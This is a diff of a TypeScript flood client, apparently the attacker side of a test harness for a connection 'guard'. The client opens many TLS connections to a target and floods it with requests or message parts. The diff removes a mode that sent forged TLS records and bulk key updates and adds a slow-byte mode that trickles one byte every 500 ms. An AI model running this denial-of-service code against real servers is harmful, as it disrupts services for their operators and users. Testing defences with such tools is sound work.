@@ -1,16 +1,14 @@
 import { once } from 'node:events';
-import { connect as connectTcp, type Socket } from 'node:net';
 import { createInterface } from 'node:readline';
 import { setTimeout as sleep } from 'node:timers/promises';
-import { connect as connectTls, type TLSSocket } from 'node:tls';
+import { connect } from 'node:tls';
 
 import type { FloodOrder } from './flood.ts';
-import { RECORD_CIPHERS, TlsRecords } from './tls-records.ts';
 
-/** Each connection sends this many key updates in one write. */
-const KEY_UPDATES = 50;
 /** Between two connections of a client, so that a closed port costs the attacker no processor. */
 const RECONNECT_MS = 10;
+/** Between two bytes of a slow client. */
+const BYTE_INTERVAL_MS = 500;
 
 const [line] = (await once(createInterface(process.stdin), 'line')) as [string];
 const { target, kind, connections, bytes: text } = JSON.parse(line) as FloodOrder;
@@ -25,45 +23,28 @@ function countStart() {
   if (startedCount === Math.ceil(connections / 10)) process.stdout.write('started\n');
 }
 
-async function connect(): Promise<readonly [tls: TLSSocket, tcp: Socket, records: TlsRecords]> {
-  const tcp = connectTcp(target.port, target.host).on('error', () => undefined);
-  await once(tcp, 'connect');
-  const isRecordAttack = kind === 'records' || kind === 'key updates';
-  const ciphers = isRecordAttack ? { ciphers: RECORD_CIPHERS, minVersion: 'TLSv1.3' as const } : {};
-  const tls = connectTls({ ...target, socket: tcp, ...ciphers }).on('error', () => undefined);
-  let secret = '';
-  tls.on('keylog', (keys: Buffer) => {
-    secret = /^CLIENT_TRAFFIC_SECRET_0 \w+ (\w+)/.exec(keys.toString())?.[1] ?? secret;
-  });
-  // The guard may close the connection during the handshake, which is no error of the TLS socket.
-  const ended = new AbortController();
-  tcp.once('close', () => ended.abort());
-  await once(tls, 'secureConnect', { signal: ended.signal });
-  return [tls, tcp, new TlsRecords(Buffer.from(secret, 'hex'))];
-}
-
 /** Attacks over one connection until the guard closes it. */
 async function attack(): Promise<void> {
-  const [tls, tcp, records] = await connect();
-  const closed = once(tcp, 'close');
+  const socket = connect({ ...target }).on('error', () => undefined);
+  const ended = new AbortController();
+  const closed = once(socket, 'close').finally(() => ended.abort());
+  await once(socket, 'secureConnect', { signal: ended.signal });
   countStart();
   if (kind === 'requests') {
-    tls.on('data', (chunk: Buffer) => {
-      if (chunk.includes('HTTP/1.1')) tls.write(bytes);
+    socket.on('data', (chunk: Buffer) => {
+      if (chunk.includes('HTTP/1.1')) socket.write(bytes);
     });
   }
   // Otherwise the end of the connection stays unseen.
-  tls.resume();
-  if (kind === 'requests' || kind === 'parts') tls.write(bytes);
-  else if (kind === 'records') tcp.write(records.split(bytes));
-  else {
-    const sendMore = () => {
-      // A write that ends at once would leave the other connections no turn.
-      if (!tcp.destroyed) tcp.write(records.updateKeys(KEY_UPDATES), () => setImmediate(sendMore));
-    };
-    sendMore();
-  }
+  socket.resume();
+  if (kind === 'slow') for (const byte of bytes) await sendLater(() => socket.write(Buffer.of(byte)), ended.signal);
+  else socket.write(bytes);
   await closed;
+}
+
+async function sendLater(send: () => void, signal: AbortSignal) {
+  await sleep(BYTE_INTERVAL_MS, undefined, { signal });
+  send();
 }
 
 async function attackForever(): Promise<never> {
